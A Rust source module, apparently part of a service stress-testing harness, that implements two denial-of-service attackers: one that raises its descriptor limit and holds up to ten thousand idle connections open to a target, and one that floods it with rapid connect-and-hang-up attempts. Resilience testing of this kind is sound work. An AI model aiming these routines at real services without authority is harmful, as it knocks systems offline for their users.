//! Strangers that connect and say nothing.

use super::{Attacker, Report, Stop, Victim, socket};
use crate::failure::Failure;
use crate::pattern::Random;
use rustix::io::Errno;
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use std::time::Duration;

/// Connections that are held at a time, if this process's limit of descriptors allows it.
const IDLE: usize = 10_000;
/// Descriptors that the process needs for itself.
const OWN_DESCRIPTORS: u64 = 50;
/// Time between two looks for connections that were closed.
const PAUSE: Duration = Duration::from_millis(20);

/// Holds as many connections as it gets, and makes others for those that are closed.
pub(super) struct IdleConnections;

impl Attacker for IdleConnections {
    fn name(&self) -> &'static str {
        "idle-connections"
    }

    fn run(&self, victim: &Victim, stop: &Stop) -> Result<Report, Failure> {
        let limit = getrlimit(Resource::Nofile);
        setrlimit(
            Resource::Nofile,
            Rlimit {
                current: limit.maximum,
                ..limit
            },
        )?;
        let room = limit.maximum.unwrap_or(u64::MAX) - OWN_DESCRIPTORS;
        let many = IDLE.min(usize::try_from(room).unwrap_or(IDLE));
        let (mut held, mut random, mut report) = (Vec::new(), Random(1), Report::default());
        loop {
            while held.len() < many && !stop.is_stopped() {
                report.attempts += 1;
                match socket::connect(victim, &mut random) {
                    Ok(connection) => held.push(connection),
                    // Its queue is full, or the victim is gone.
                    Err(_) => break,
                }
            }
            report.landed = report.landed.max(held.len() as u64);
            stop.begun();
            if stop.pause(PAUSE) {
                return Ok(report);
            }
            socket::retain_open(&mut held);
        }
    }
}

/// Connects and hangs up, without a pause.
pub(super) struct ConnectionFlood;

impl Attacker for ConnectionFlood {
    fn name(&self) -> &'static str {
        "connection-flood"
    }

    fn run(&self, victim: &Victim, stop: &Stop) -> Result<Report, Failure> {
        let (mut random, mut report) = (Random(2), Report::default());
        while !stop.is_stopped() {
            report.attempts += 1;
            match socket::connect(victim, &mut random) {
                Ok(_) => report.landed += 1,
                Err(Errno::AGAIN) => {}
                Err(_) => drop(stop.pause(PAUSE)),
            }
            stop.begun();
        }
        Ok(report)
    }
}
